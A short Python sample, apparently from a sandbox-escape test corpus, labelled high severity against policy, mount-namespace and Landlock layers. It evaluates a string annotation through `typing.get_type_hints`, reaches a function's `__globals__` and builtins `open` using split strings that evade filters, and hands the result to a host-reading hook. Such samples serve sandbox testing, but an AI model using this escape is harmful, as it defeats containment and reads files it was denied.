# technique: an annotation's text reads a type's table
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import json
import typing

found = []
functions = type(won)

def holder():
    pass

def trick():
    holder.__annotations__["field"] = "found.append(functions.__dict__) or int"
    typing.get_type_hints(holder)
    return found[0]["__glo" + "bals__"].__get__(json.dumps)["__built" + "ins__"]["open"]

read_host(trick)
